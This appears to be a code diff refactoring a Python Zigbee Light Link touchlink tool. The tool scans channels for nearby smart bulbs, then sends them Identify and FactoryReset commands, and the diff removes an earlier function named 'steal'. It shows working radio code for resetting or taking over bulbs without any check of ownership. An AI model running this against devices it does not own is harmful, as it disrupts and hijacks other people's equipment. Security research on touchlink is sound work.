@@ -1,21 +1,56 @@
 import asyncio
-from dataclasses import dataclass, Field, field
+from collections import Counter, defaultdict, deque
+from dataclasses import dataclass, Field, field, replace
 import json
 from datetime import datetime
 
-import pure_pcapy
+import importlib
+import importlib.util
+import itertools
+import logging
+import math
 import time
 import sys
 import argparse
+from typing import AsyncIterator
 
 from random import randint
 
 import bellows
-import bellows.cli.util as util
-import interpanZll
+from inventory import Inventory
+from pcap_writer import PcapWriter, PcapFormatError, iter_pcap
+from radio_scheduler import RadioScheduler, COMMAND_PRIORITY, SCAN_PRIORITY
+import metrics
+import tracing
 
+logger = logging.getLogger(__name__)
 
-DLT_IEEE802_15_4 = 195
+
+def lazy_import(name):
+    """Import a top-level module on first attribute access rather than now"""
+    if name in sys.modules:
+        return sys.modules[name]
+    spec = importlib.util.find_spec(name)
+    if spec is None:
+        raise ModuleNotFoundError(f"No module named {name!r}", name=name)
+    spec.loader = importlib.util.LazyLoader(spec.loader)
+    module = importlib.util.module_from_spec(spec)
+    sys.modules[name] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+# The frame codec pulls in bellows.types and bellows.cli pulls in the whole
+# EZSP stack, neither is needed until a radio is opened. bellows itself is
+# an empty package.
+interpanZll = lazy_import("interpanZll")
+
+
+def check(status, message):
+    """bellows.cli.util.check, without importing bellows.cli when all is well"""
+    if status != 0:
+        import bellows.cli.util as util
+        util.check(status, message)
 
 class Prompt:
     def __init__(self):
@@ -30,276 +65,984 @@ class Prompt:
         return (await self.q.get()).rstrip('\n')
 
 async def prepare_config(device_path, baudrate):
-    dev = await util.setup(device_path, baudrate)
-    eui64 = await getattr(dev, 'getEui64')()
-    eui64 = bellows.types.named.EmberEUI64(*eui64)
+    with tracing.span("prepare_config", device=device_path):
+        # Imported in a thread, bellows.cli takes most of a second and the
+        # event loop may already be serving requests
+        if device_path.startswith("sim:"):
+            # Virtual bulbs instead of a stick, see simulated_radio.py
+            simulated_radio = await asyncio.to_thread(importlib.import_module, "simulated_radio")
+            dev = simulated_radio.SimulatedRadio.from_spec(device_path)
+        else:
+            util = await asyncio.to_thread(importlib.import_module, "bellows.cli.util")
+            dev = await util.setup(device_path, baudrate)
+        eui64 = await getattr(dev, 'getEui64')()
+        eui64 = bellows.types.named.EmberEUI64(*eui64)
 
-    res = await dev.mfglibStart(True)
-    util.check(res[0], "Unable to start mfglib")
+        res = await dev.mfglibStart(True)
+        check(res[0], "Unable to start mfglib")
     return (dev, eui64)
 
 def dump_pcap(pcap, frame):
-    ts = time.time()
-    ts_sec = int(ts)
-    ts_usec = int((ts - ts_sec) * 1_000_000)
-    hdr = pure_pcapy.Pkthdr(ts_sec, ts_usec, len(frame), len(frame))
-    pcap.dump(hdr, frame)
+    # Timestamp now, the write itself happens on the PcapWriter thread
+    if pcap is not None:
+        pcap.write(frame, time.time())
+
+class CapturedFrame:
+    __slots__ = ("timestamp", "channel", "data")
+
+    def __init__(self, timestamp, channel, data):
+        self.timestamp = timestamp
+        self.channel = channel
+        self.data = data
+
+    def to_dict(self, decode=None):
+        d = {"timestamp": self.timestamp, "channel": self.channel, "data": self.data.hex()}
+        if decode:
+            try:
+                d["decoded"] = {k: str(v) for k, v in decode(self.data)[0].__dict__.items()}
+            except ValueError:
+                d["decoded"] = None
+        return d
+
+
+class CaptureBuffer:
+    """Ring buffer of raw frames bounded by both frame count and total bytes.
+
+    The oldest frames are dropped first, so memory stays flat however long
+    the radio runs.
+    """
+
+    def __init__(self, max_frames=1000, max_bytes=256 * 1024):
+        self.max_frames = max_frames
+        self.max_bytes = max_bytes
+        self.frames = deque()
+        self.total_bytes = 0
+        self.dropped = 0
+
+    def append(self, data, channel=None, timestamp=None):
+        data = bytes(data)
+        if len(data) > self.max_bytes:
+            self.dropped += 1
+            return
+        self.frames.append(CapturedFrame(timestamp or time.time(), channel, data))
+        self.total_bytes += len(data)
+        while len(self.frames) > self.max_frames or self.total_bytes > self.max_bytes:
+            self.total_bytes -= len(self.frames.popleft().data)
+            self.dropped += 1
+
+    def __len__(self):
+        return len(self.frames)
+
+    def __iter__(self):
+        return iter(self.frames)
+
+    def page(self, offset=0, limit=100) -> list[CapturedFrame]:
+        offset = max(offset, 0)
+        return list(itertools.islice(self.frames, offset, offset + max(limit, 0)))
+
+    def export(self, decode=None) -> list[dict]:
+        """JSON-friendly copy of every buffered frame, optionally decoded with e.g. ScanResp.deserialize"""
+        return [frame.to_dict(decode) for frame in self.frames]
+
+    def clear(self):
+        self.frames.clear()
+        self.total_bytes = 0
+
+
+class DeliveryError(Exception):
+    """A command was transmitted but the target never acknowledged it"""
+
+
+# Seconds a touchlink transaction id stays valid after the scan (ZLL aplcInterPANTransIdLifetime)
+ZLL_TRANSACTION_LIFETIME = 8
+
 
 @dataclass(eq=True, frozen=True)
 class Target:
+    # A bulb is its ext_address, the rest only describes one response from it
     ext_address: str
-    transaction_id: int
-    signal_strength: int
-    channel: int
-    identified: datetime = field(default_factory=datetime.now)
-    
+    transaction_id: int = field(compare=False)
+    signal_strength: int = field(compare=False)
+    channel: int = field(compare=False)
+    identified: datetime = field(default_factory=datetime.now, compare=False)
+    rssi: int | None = field(default=None, compare=False)
+    # From the bulb's ScanResp
+    device_id: int | None = field(default=None, compare=False)
+    profile_id: int | None = field(default=None, compare=False)
+    version: int | None = field(default=None, compare=False)
+
+    @property
+    def strength(self) -> int:
+        """Received RSSI, or the bulb's own rSSICorrection when there is none"""
+        return self.rssi if self.rssi is not None else self.signal_strength
+
+    @property
+    def age(self) -> float:
+        return (datetime.now() - self.identified).total_seconds()
+
+    @property
+    def transaction_valid(self) -> bool:
+        """Whether the bulb will still accept commands using transaction_id"""
+        return self.age < ZLL_TRANSACTION_LIFETIME
+
+
+class TargetCache:
+    """Targets from recent scans keyed by ext_address.
+
+    A set of channels is fresh while every one of them was scanned within
+    ttl seconds, so callers can skip the radio sweep entirely.
+    """
+
+    def __init__(self, ttl=300):
+        self.ttl = ttl
+        self.targets = {}
+        # channel -> time.monotonic() of the last completed scan
+        self.scanned = {}
+
+    def record_scan(self, channel, targets):
+        for address in [a for a, t in self.targets.items() if t.channel == channel]:
+            del self.targets[address]
+        for target in targets:
+            self.targets[target.ext_address] = target
+        self.scanned[channel] = time.monotonic()
+
+    def fresh(self, channels) -> bool:
+        now = time.monotonic()
+        return all(now - self.scanned.get(c, -math.inf) < self.ttl for c in channels)
+
+    def get(self, ext_address) -> Target | None:
+        target = self.targets.get(ext_address)
+        if target is not None and target.age >= self.ttl:
+            return None
+        return target
+
+    def targets_for(self, channels) -> list[Target]:
+        channels = set(channels)
+        return [t for t in self.targets.values() if t.channel in channels and t.age < self.ttl]
+
+    def invalidate(self, ext_address=None):
+        """Forget one bulb, or everything when no address is given"""
+        if ext_address is None:
+            self.targets.clear()
+            self.scanned.clear()
+        else:
+            self.targets.pop(ext_address, None)
+
+# Frames decoded per turn of ResponseHandler.run before other tasks get the loop
+RX_BATCH = 256
+
+
 class ResponseHandler:
-    def __init__(self, dev, pcap, channel, transaction_id, targets=None):
+    """Receives frames for one scan transaction.
+
+    handle_incoming runs inside the EZSP callback, so it only ACKs matching
+    ScanResps and queues the raw frame with its receive time. The run task
+    then does the pcap write, decoding and bookkeeping in process.
+    """
+
+    def __init__(self, dev, pcap, channel, transaction_id, targets=None, frame_counts=None,
+                 valid_responses=None, invalid_responses=None, on_target=None, max_queue=10000):
         self.dev = dev
         self.pcap = pcap
-        self.targets = targets if targets else set()
+        # Best response seen per bulb, keyed by ext_address
+        self.targets = targets if targets is not None else {}
         self.channel = channel
         self.transaction_id = transaction_id
-        self.valid_responses = []
-        self.invalid_responses = []
- 
-    def handle_incoming(self, frame_name, response):
-        #print(f"Response:\n{response}")
+        # Counts of received frames by interpanZll.classify_scan_resp result
+        self.frame_counts = frame_counts if frame_counts is not None else Counter()
+        self.valid_responses = valid_responses if valid_responses is not None else CaptureBuffer()
+        self.invalid_responses = invalid_responses if invalid_responses is not None else CaptureBuffer()
+        # Set whenever a response to our transaction arrives, see Touchlink.listen
+        self.responded = asyncio.Event()
+        # Called with each newly discovered Target as soon as it is recorded
+        self.on_target = on_target
+        # (data, rssi, timestamp, kind, ack) waiting for process. Callbacks run
+        # on the event loop thread, so a deque and an Event are enough.
+        self.max_queue = max_queue
+        self.dropped = 0
+        self._queue = deque()
+        self._wakeup = asyncio.Event()
+        self._worker = None
 
+    @property
+    def queue_depth(self):
+        return len(self._queue)
+
+    def handle_incoming(self, frame_name, response):
         if frame_name != "mfglibRxHandler":
             return
 
         data = response[2]
-        dump_pcap(self.pcap, data)
+        kind = interpanZll.classify_scan_resp(data, self.transaction_id)
+        ack = None
+        if kind == interpanZll.SCAN_RESP_MATCH and self.dev is not None:
+            # The bulb is waiting on this, so it goes out before anything else
+            ack = interpanZll.ack_for(data)
+            asyncio.create_task(self.dev.mfglibSendPacket(ack))
+            metrics.ACKS_SENT.inc()
+
+        if len(self._queue) >= self.max_queue:
+            self.dropped += 1
+            return
+        self._queue.append((data, response[1], time.time(), kind, ack))
+        self._wakeup.set()
+
+    def start(self):
+        if self._worker is None or self._worker.done():
+            self._worker = asyncio.create_task(self.run())
 
-        if len(data)<10: # Not sure what this is, but not a proper response
+    async def stop(self):
+        """Stop the run task, processing whatever is still queued"""
+        if self._worker:
+            self._worker.cancel()
+            try:
+                await self._worker
+            except asyncio.CancelledError:
+                pass
+            self._worker = None
+        self.drain()
+
+    def drain(self):
+        while self._queue:
+            self.process(*self._queue.popleft())
+
+    async def run(self):
+        process = tracing.traced(self.process, "process_frame", channel=self.channel)
+        queue = self._queue
+        while True:
+            if not queue:
+                self._wakeup.clear()
+                await self._wakeup.wait()
+                continue
+            # Once per batch, the oldest frame's wait bounds the others'
+            metrics.RX_QUEUE_SECONDS.observe(time.time() - queue[0][2])
+            for _ in range(min(len(queue), RX_BATCH)):
+                process(*queue.popleft())
+            if queue:
+                # A burst is still queued, let the radio's own tasks in first
+                await asyncio.sleep(0)
+
+    def process(self, data, rssi=None, timestamp=None, kind=None, ack=None):
+        if self.pcap is not None:
+            self.pcap.write(data, timestamp)
+            if ack is not None:
+                self.pcap.write(ack, timestamp)
+
+        # Only build a ScanResp for touchlink responses to our transaction,
+        # everything else is just counted
+        if kind is None:
+            kind = interpanZll.classify_scan_resp(data, self.transaction_id)
+        self.frame_counts[kind] += 1
+        if kind != interpanZll.SCAN_RESP_MATCH:
             return
 
         try:
             resp = interpanZll.ScanResp.deserialize(data)[0]
         except ValueError:
-            self.invalid_responses.append(response)
+            self.invalid_responses.append(data, self.channel, timestamp)
+            metrics.DECODE_FAILURES.inc(self.channel)
             return
 
-        resp_dict = resp.__dict__
-        # print(f"Response:\n{resp_dict}")
-        self.valid_responses.append(resp_dict)
+        self.valid_responses.append(data, self.channel, timestamp)
+        metrics.SCAN_RESPONSES.inc(self.channel)
 
-        if resp.transactionId != self.transaction_id: # Not for us
-            return
+        # Repeated scan requests get repeated responses, keep the strongest
+        ext_address = str(resp.extSrc)
+        seen = self.targets.get(ext_address)
+        if seen is None or (seen.rssi is not None and rssi > seen.rssi):
+            # Without a channel (replays) trust the one the bulb reports
+            channel = self.channel if self.channel is not None else resp.logicalChannel
+            target = Target(ext_address, self.transaction_id, resp.rSSICorrection, channel, rssi=rssi,
+                            device_id=resp.deviceId, profile_id=resp.profileId, version=resp.version)
+            self.targets[ext_address] = target
+            if seen is None and self.on_target:
+                self.on_target(target)
+        self.responded.set()
 
-        signal_strength = resp.rSSICorrection
-        target = Target(str(resp.extSrc), self.transaction_id, signal_strength, self.channel)
-        self.targets.add(target)
-        frame = interpanZll.AckFrame(seq = resp.seq).serialize()
-        dump_pcap(self.pcap, frame)
-        asyncio.create_task(self.dev.mfglibSendPacket(frame))   
+
+# Scan requests per channel recommended by the ZLL spec, 250ms apart
+ZLL_SCAN_REPEATS = 5
+# Sent by default, a second request catches bulbs that missed the first
+# without the full spec's cost on every one of the 16 channels
+DEFAULT_SCAN_REPEATS = 2
+
+ALL_CHANNELS = tuple(range(11, 27))
+# ZLL devices ship on these channels, so most bulbs are found there
+ZLL_PRIMARY_CHANNELS = (11, 15, 20, 25)
+
+
+class ChannelScheduler:
+    """Orders channels for a sweep: ZLL primary channels first, then the
+    secondary channels where bulbs have been found most often.
+    """
+
+    def __init__(self, history=None):
+        # Number of bulbs found per channel across previous scans
+        self.history = Counter(history or {})
+
+    def record(self, channel, found):
+        if found:
+            self.history[channel] += found
+
+    def order(self, channels=ALL_CHANNELS) -> list[int]:
+        channels = list(dict.fromkeys(channels))
+        primary = [c for c in channels if c in ZLL_PRIMARY_CHANNELS]
+        secondary = [c for c in channels if c not in ZLL_PRIMARY_CHANNELS]
+        # sorted is stable, so channels without history keep their order
+        by_history = lambda c: -self.history[c]
+        return sorted(primary, key=by_history) + sorted(secondary, key=by_history)
+
+
+_DEFAULT_CHANNEL_ORDER = ChannelScheduler().order(ALL_CHANNELS)
 
 
 class Touchlink:
 
-    def __init__(self, device_path, baud_rate):
+    def __init__(self, device_path, baud_rate, capture_frames=1000, capture_bytes=256 * 1024, pcap_path="log.pcap",
+                 first_response_timeout=0.3, quiet_period=0.15, max_listen=2.0,
+                 scan_repeats=DEFAULT_SCAN_REPEATS, scan_interval=0.25, channel_scheduler=None, target_cache=None,
+                 ack_timeout=0.2, send_retries=2, inventory=None, scheduler=None):
         self.device_path = device_path
-        self.baud_rate = baud_rate       
-        self.pcap = pure_pcapy.Dumper("log.pcap", 128, DLT_IEEE802_15_4)
+        self.baud_rate = baud_rate
+        # Listen window after a ScanReq, in seconds. Scanning moves on once
+        # nothing has arrived for first_response_timeout (before any response)
+        # or quiet_period (after one), and never waits longer than max_listen.
+        self.first_response_timeout = first_response_timeout
+        self.quiet_period = quiet_period
+        self.max_listen = max_listen
+        # ScanReqs sent per channel with the same transaction, scan_interval
+        # apart. The ZLL spec sends ZLL_SCAN_REPEATS on the first channel.
+        self.scan_repeats = scan_repeats
+        self.scan_interval = scan_interval
+        self.channel_scheduler = channel_scheduler or ChannelScheduler()
+        self.target_cache = target_cache or TargetCache()
+        # Optional inventory.Inventory every scan is recorded in
+        self.inventory = inventory
+        # Commands to a bulb wait ack_timeout for its MAC ACK and are
+        # resent up to send_retries times before failing with DeliveryError
+        self.ack_timeout = ack_timeout
+        self.send_retries = send_retries
+        # MAC sequence number -> future resolved by handle_ack
+        self._ack_waiters = {}
+        self._seq = itertools.count(1)
+        # Channel the radio is tuned to, None until the first switch
+        self.channel = None
+        # The one queue for this radio. The server passes its session's, so
+        # its commands and this Touchlink's scans are ordered together.
+        self._owns_scheduler = scheduler is None
+        self.scheduler = scheduler or RadioScheduler(lambda operation: operation(self))
+        # Raw frames kept for debugging, shared by every scan on this radio
+        self.valid_responses = CaptureBuffer(capture_frames, capture_bytes)
+        self.invalid_responses = CaptureBuffer(capture_frames, capture_bytes)
+        # Opened by create once the radio is up, so a failed open doesn't
+        # rotate the previous capture away or leave a writer thread behind
+        self.pcap_path = pcap_path
+        self.pcap = None
+        # Received frame counts per channel, see ResponseHandler.frame_counts
+        self.channel_stats = defaultdict(Counter)
+        # Handler of the scan in progress, and frames its queue dropped in earlier scans
+        self.rx_handler = None
+        self._rx_dropped = 0
     
-    async def create(device_path, baud_rate):
-        tl = Touchlink(device_path, baud_rate)
+    async def create(device_path, baud_rate, **kwargs):
+        tl = Touchlink(device_path, baud_rate, **kwargs)
 
         tl.dev, tl.eui64 = await prepare_config(device_path, baud_rate)
+        tl.pcap = PcapWriter(tl.pcap_path)
+        tl.ack_cbid = tl.dev.add_callback(tl.handle_ack)
         return tl
 
     async def close(self):
-        await self.dev.mfglibEnd()
-        self.dev.close()
+        if self._owns_scheduler:
+            await self.scheduler.close()
+        try:
+            self.dev.remove_callback(self.ack_cbid)
+            await self.dev.mfglibEnd()
+            self.dev.close()
+        finally:
+            if self.pcap is not None:
+                await asyncio.get_running_loop().run_in_executor(None, self.pcap.close)
 
-    async def scan_channel(self, channel: int) -> list[Target]:
+    def handle_ack(self, frame_name, response):
+        if frame_name != "mfglibRxHandler" or not self._ack_waiters:
+            return
+        data = response[2]
+        # 802.15.4 ACK: frame type 2 in the low bits of frameControl, then seq
+        if len(data) < 3 or data[0] & 0x07 != 0x02:
+            return
+        waiter = self._ack_waiters.get(data[2])
+        if waiter is not None and not waiter.done():
+            waiter.set_result(response)
 
-        transaction_id = randint(0, 0xFFFFFFFF)
-        handler = ResponseHandler(self.dev, self.pcap, channel, transaction_id, targets=None)
-        cbid = self.dev.add_callback(handler.handle_incoming)
-        
-        print(f"Scanning on channel: {channel} - {type(channel)}")
-        res = await self.dev.mfglibSetChannel(channel)
-        util.check(res[0], "Unable to set channel")
+    @property
+    def rx_queue_depth(self):
+        return self.rx_handler.queue_depth if self.rx_handler else 0
 
+    @property
+    def rx_dropped(self):
+        return self._rx_dropped + (self.rx_handler.dropped if self.rx_handler else 0)
 
-        # https://www.nxp.com/docs/en/user-guide/JN-UG-3091.pdf section 6.8.5
-        frame = interpanZll.ScanReq(
-            seq = 1,
-            srcPan = 0,
-            extSrc = self.eui64,
-            transactionId = transaction_id,
-        ).serialize()
+    async def submit(self, operation, channel=None, priority=SCAN_PRIORITY):
+        """Queue ``operation(touchlink)`` on this radio's scheduler and wait for its result"""
+        return await self.scheduler.submit(operation, channel=channel, priority=priority)
+
+    def next_seq(self):
+        return next(self._seq) & 0xFF
+
+    async def send_packet(self, frame):
         dump_pcap(self.pcap, frame)
-        res = await self.dev.mfglibSendPacket(frame)
-        print(f"Sent packet: {res}")
-        util.check(res[0], "Unable to send packet")
+        start = time.perf_counter()
+        with tracing.span("mfglibSendPacket", bytes=len(frame)):
+            res = await self.dev.mfglibSendPacket(frame)
+        metrics.SEND_SECONDS.observe(time.perf_counter() - start)
+        check(res[0], "Unable to send packet")
+        return res
 
-        await asyncio.sleep(1)
-        self.dev.remove_callback(cbid)
-        return handler.targets
-        
+    async def send_acked(self, frame, seq, target):
+        """Send a frame that requests a MAC ACK, resending until the target acknowledges it.
+        Returns the number of attempts, or raises DeliveryError.
+        """
+        loop = asyncio.get_running_loop()
+        attempts = self.send_retries + 1
+        with tracing.span("send_acked", target=target, seq=seq) as span:
+            for attempt in range(1, attempts + 1):
+                span["attempts"] = attempt
+                waiter = loop.create_future()
+                self._ack_waiters[seq] = waiter
+                try:
+                    await self.send_packet(frame)
+                    await asyncio.wait_for(waiter, self.ack_timeout)
+                    return attempt
+                except asyncio.TimeoutError:
+                    logger.debug(f"No ACK from {target} for seq {seq}, attempt {attempt}/{attempts}")
+                finally:
+                    self._ack_waiters.pop(seq, None)
+        raise DeliveryError(f"No acknowledgement from {target} after {attempts} attempts")
 
-    async def identify_bulb(self, target, transaction_id, channel):
-        print(f"Sending flashing identifier packet to {target}")
+    async def set_channel(self, channel):
+        if channel == self.channel:
+            return
+        start = time.perf_counter()
         res = await self.dev.mfglibSetChannel(channel)
-        util.check(res[0], "Unable to set channel")
+        metrics.CHANNEL_SWITCH_SECONDS.observe(time.perf_counter() - start)
+        check(res[0], "Unable to set channel")
+        self.channel = channel
+
+    async def listen(self, handler, first_response_timeout=None, quiet_period=None, max_listen=None):
+        """Wait for scan responses until the channel goes quiet"""
+        # An explicit 0 is a valid timeout, only None means the default
+        if first_response_timeout is None:
+            first_response_timeout = self.first_response_timeout
+        if quiet_period is None:
+            quiet_period = self.quiet_period
+        if max_listen is None:
+            max_listen = self.max_listen
+
+        loop = asyncio.get_running_loop()
+        deadline = loop.time() + max_listen
+        timeout = first_response_timeout
+        while (remaining := deadline - loop.time()) > 0:
+            try:
+                await asyncio.wait_for(handler.responded.wait(), min(timeout, remaining))
+            except asyncio.TimeoutError:
+                return
+            handler.responded.clear()
+            timeout = quiet_period
+
+    async def scan_channel(self, channel: int, repeats=None, on_target=None, **listen_kwargs) -> list[Target]:
+        with tracing.span("scan_channel", channel=channel) as span:
+            targets = await self._scan_channel(channel, repeats, on_target, **listen_kwargs)
+            span["found"] = len(targets)
+        return targets
+
+    async def _scan_channel(self, channel, repeats=None, on_target=None, **listen_kwargs) -> list[Target]:
+        if repeats is None:
+            repeats = self.scan_repeats
+        start = time.perf_counter()
 
         transaction_id = randint(0, 0xFFFFFFFF)
+        handler = ResponseHandler(self.dev, self.pcap, channel, transaction_id, targets=None,
+                                  frame_counts=self.channel_stats[channel],
+                                  valid_responses=self.valid_responses,
+                                  invalid_responses=self.invalid_responses,
+                                  on_target=on_target)
+        handler.start()
+        self.rx_handler = handler
+        cbid = self.dev.add_callback(tracing.traced(handler.handle_incoming, "handle_incoming", channel=channel))
+        # The worker task has to be stopped however the scan ends
+        try:
+            print(f"Scanning on channel: {channel} - {type(channel)}")
+            with tracing.span("set_channel", channel=channel):
+                await self.set_channel(channel)
+
+            # https://www.nxp.com/docs/en/user-guide/JN-UG-3091.pdf section 6.8.5
+            with tracing.span("send_scan_requests", repeats=repeats):
+                for n in range(repeats):
+                    if n:
+                        await asyncio.sleep(self.scan_interval)
+                    frame = interpanZll.ScanReq(
+                        seq = n + 1,
+                        srcPan = 0,
+                        extSrc = self.eui64,
+                        transactionId = transaction_id,
+                    ).serialize()
+                    res = await self.send_packet(frame)
+                    print(f"Sent packet: {res}")
+
+            with tracing.span("listen"):
+                await self.listen(handler, **listen_kwargs)
+        finally:
+            self.dev.remove_callback(cbid)
+            await handler.stop()
+            self.rx_handler = None
+            self._rx_dropped += handler.dropped
+        targets = list(handler.targets.values())
+        self.channel_scheduler.record(channel, len(targets))
+        self.target_cache.record_scan(channel, targets)
+        if self.inventory is not None and targets:
+            await asyncio.to_thread(self.inventory.record, targets)
+        metrics.SCAN_SECONDS.observe(time.perf_counter() - start, channel)
+        return targets
+        
+
+    async def identify_bulb(self, target, transaction_id, channel):
+        print(f"Sending flashing identifier packet to {target}")
+        await self.set_channel(channel)
 
         dest = bellows.types.named.EmberEUI64.convert(target)
         print(f"{dest=} - {type(dest)}")
         print(f"{target=} - {type(target)}")
+        seq = self.next_seq()
         frame = interpanZll.IdentifyReq(
-            seq = 2,
+            seq = seq,
             srcPan = 0,
             extSrc = self.eui64,
             transactionId = transaction_id,
             extDst = dest,
             frameControl = 0xCC21,
         ).serialize()
-        dump_pcap(self.pcap, frame)
-        await self.dev.mfglibSendPacket(frame)
+        return await self.send_acked(frame, seq, target)
 
     
-    async def blink_routine(self, channels: list[int]):
-        all_targets = {}
-        for c in channels:
-            targets = await self.scan_channel(c)
-            for t in targets:
-                if t not in targets:
-                    all_targets[t.ext_address] = t#(t.ext_address, t.transaction_id, t.channel)
-
-        print(f"{targets}")
-        for t in targets:
-            diff_s = (datetime.now() - t.identified).seconds
-            print(f"Sending identify to bulb identified {diff_s} seconds ago")
-            await self.identify_bulb(t.ext_address, t.transaction_id, t.channel)
+    def scan_channels(self, channels=ALL_CHANNELS, **scan_kwargs) -> AsyncIterator[tuple[int, list[Target]]]:
+        """Scan channels in scheduled order, yielding each channel's targets as soon as it is done"""
+        return scan_each(self, self.channel_scheduler.order(channels), **scan_kwargs)
 
     async def send_reset(self, target, transaction_id, channel):
-        res = await self.dev.mfglibSetChannel(channel)
-        util.check(res[0], "Unable to set channel")
+        await self.set_channel(channel)
 
         print(f"Factory resetting {target}")
+        seq = self.next_seq()
         frame = interpanZll.FactoryResetReq(
-            seq = 3,
+            seq = seq,
             srcPan = 0,
             extSrc = self.eui64,
             transactionId = transaction_id,
             extDst = bellows.types.named.EmberEUI64.convert(target),
             frameControl = 0xCC21,
         ).serialize()
-        dump_pcap(self.pcap, frame)
-        await self.dev.mfglibSendPacket(frame)
-        await asyncio.sleep(1)
+        return await self.send_acked(frame, seq, target)
 
 
-async def steal(device_path, baudrate, scan_channel, reset_prompt=False, clean_up=True, config=None):
-    if config:
-        dev, eui64 = config
-    else:
-        dev, eui64 = await prepare_config(device_path, baudrate)
-    #prompt = Prompt()
-    transactions_sent = []
-    transactions_received = []
-    valid_responses = []
-    invalid_responses = []
+class MergedTargets:
+    """Targets from several scans, channels or sticks, one per ext_address.
 
-    channel_list = [scan_channel] if scan_channel else list(range(11, 27)).reverse()
-    channel = None
+    Adding a response is a dict lookup: the bulb keeps the strongest signal
+    seen, and the transaction, channel and time of its latest response since
+    only that transaction is still worth sending commands with.
+    """
 
-    cbid = dev.add_callback(handle_incoming)
+    def __init__(self, targets=()):
+        self.targets = {}
+        for t in targets:
+            self.add(t)
 
+    def __len__(self):
+        return len(self.targets)
 
-    while channel_list:
-        channel = channel_list.pop()
-        print("Scanning on channel",channel)
-        res = await dev.mfglibSetChannel(channel)
-        util.check(res[0], "Unable to set channel")
+    def __iter__(self):
+        return iter(self.targets.values())
 
-        transaction_id = randint(0, 0xFFFFFFFF)
-        targets = set()
+    def __contains__(self, ext_address):
+        return ext_address in self.targets
 
-        # https://www.nxp.com/docs/en/user-guide/JN-UG-3091.pdf section 6.8.5
-        frame = interpanZll.ScanReq(
-            seq = 1,
-            srcPan = 0,
-            extSrc = eui64,
-            transactionId = transaction_id,
-        ).serialize()
-        dump_pcap(frame)
-        res = await dev.mfglibSendPacket(frame)
-        transactions_sent.append(transaction_id)
-        print(f"Sent packet: {res}")
-        util.check(res[0], "Unable to send packet")
+    def add(self, target) -> Target:
+        seen = self.targets.get(target.ext_address)
+        if seen is not None:
+            latest, older = (target, seen) if target.identified >= seen.identified else (seen, target)
+            if older.strength > latest.strength:
+                target = replace(latest, rssi=older.rssi, signal_strength=older.signal_strength)
+            else:
+                target = latest
+        self.targets[target.ext_address] = target
+        return target
 
-        await asyncio.sleep(1)
+    def by_strength(self) -> list[Target]:
+        """Strongest signal first"""
+        return sorted(self.targets.values(), key=lambda t: t.strength, reverse=True)
 
-        if targets:
-            print(f"Found the following targets scanning channel {channel}.\n {targets}")
-        else:
-            print(f"Found no targets on {channel}")
 
-        if reset_prompt:
-            while len(targets)>0:
-                await handle_targets(dev, eui64, targets)
+def merge_targets(targets) -> list[Target]:
+    """One Target per ext_address, see MergedTargets, strongest first"""
+    return MergedTargets(targets).by_strength()
 
-    dev.remove_callback(cbid)
 
-    if clean_up:
-        await dev.mfglibEnd()
+async def incremental_sweep(scan_channels, known, channels) -> list[Target]:
+    """Scan the channels known bulbs were last seen on first, and only sweep
+    the rest of channels if one of them didn't answer there.
 
-        dev.close()
+    scan_channels is e.g. Touchlink.scan_channels, known maps ext_address to
+    channel as returned by Inventory.known. New bulbs on other channels are
+    only found by a full sweep.
+    """
+    channels = list(channels)
+    known = {address: c for address, c in known.items() if c in channels}
+    known_channels = [c for c in channels if c in set(known.values())]
+    found = []
+    async for c, targets in scan_channels(known_channels):
+        found.extend(targets)
+    if set(known) <= {t.ext_address for t in found}:
+        return found
+    rest = [c for c in channels if c not in known_channels]
+    async for c, targets in scan_channels(rest):
+        found.extend(targets)
+    return found
 
-    if not reset_prompt:
-        return targets
 
-#     print(f"Saving {len(valid_responses)} valid responses")
-#     with open('valid_responses.json', 'w') as fp:
-#         json.dump(valid_responses, fp)
-#
-#     try:
-#         print(f"Saving {len(invalid_responses)} invalid responses")
-#         with open('invalid_responses.json', 'w') as fp:
-#             json.dump(invalid_responses, fp)
-#     except Exception as exc:
-#         print(f"Unable to write errors: {exc}")
-
-
-async def handle_targets(dev, eu164, targets):
-    #prompt = Prompt()
-    handled = set()
-    while targets:
-        (target, transaction_id, channel) = targets.pop()
-        if target in handled:
-            # This has already been handled on another channel
-            continue
+def channel_owner(channel, radios) -> int:
+    """Index of the radio that handles a channel when there are several.
+    The primary-first order is dealt round-robin, so each radio gets a share
+    of the primary channels.
+    """
+    return _DEFAULT_CHANNEL_ORDER.index(channel) % radios
+
+
+def shard_channels(channels, radios) -> list[list[int]]:
+    """Split channels between radios by channel_owner, keeping their order"""
+    shards = [[] for _ in range(radios)]
+    for c in channels:
+        shards[channel_owner(c, radios)].append(c)
+    return shards
+
+
+async def scan_each(radio, channels, **scan_kwargs) -> AsyncIterator[tuple[int, list[Target]]]:
+    """Scan channels on one radio in the order given, yielding each channel's targets as soon as it is done.
+
+    radio is anything with submit(operation, channel, priority), e.g. a
+    Touchlink or the server's RadioSession. Each channel is its own
+    operation, so commands (COMMAND_PRIORITY) go out between channels rather
+    than after the sweep.
+    """
+    for c in channels:
+        yield c, await radio.submit(lambda tl: tl.scan_channel(c, **scan_kwargs), channel=c, priority=SCAN_PRIORITY)
+
+
+async def merge_iterators(iterators) -> AsyncIterator:
+    """Run async iterators concurrently, yielding items as any of them produces one"""
+    results = asyncio.Queue()
+
+    async def drain(iterator):
+        async for item in iterator:
+            results.put_nowait(item)
+
+    tasks = [asyncio.create_task(drain(it)) for it in iterators]
+    for task in tasks:
+        # The finished task itself marks the end of its iterator
+        task.add_done_callback(results.put_nowait)
+    try:
+        remaining = len(tasks)
+        while remaining:
+            item = await results.get()
+            if isinstance(item, asyncio.Task):
+                remaining -= 1
+                # Raise the iterator's error, if any
+                item.result()
+                continue
+            yield item
+    finally:
+        for task in tasks:
+            task.cancel()
+
+
+class RadioPool:
+    """Several EZSP sticks used together.
+
+    Each channel is owned by one radio: the scheduled channel order is dealt
+    round-robin across the sticks, so the primary channels are spread between
+    them and shards are scanned concurrently. Scan history and the target
+    cache are shared by all of them.
+
+    radios are Touchlinks, or anything else with submit, channel_scheduler,
+    target_cache and close, like the server's RadioSessions.
+    """
+
+    def __init__(self, radios):
+        self.radios = radios
+        self.channel_scheduler = radios[0].channel_scheduler
+        self.target_cache = radios[0].target_cache
+
+    async def create(device_paths, baud_rate, **kwargs):
+        kwargs.setdefault("channel_scheduler", ChannelScheduler())
+        kwargs.setdefault("target_cache", TargetCache())
+        touchlinks = []
+        try:
+            for n, device_path in enumerate(device_paths):
+                pcap_path = "log.pcap" if n == 0 else f"log.{n}.pcap"
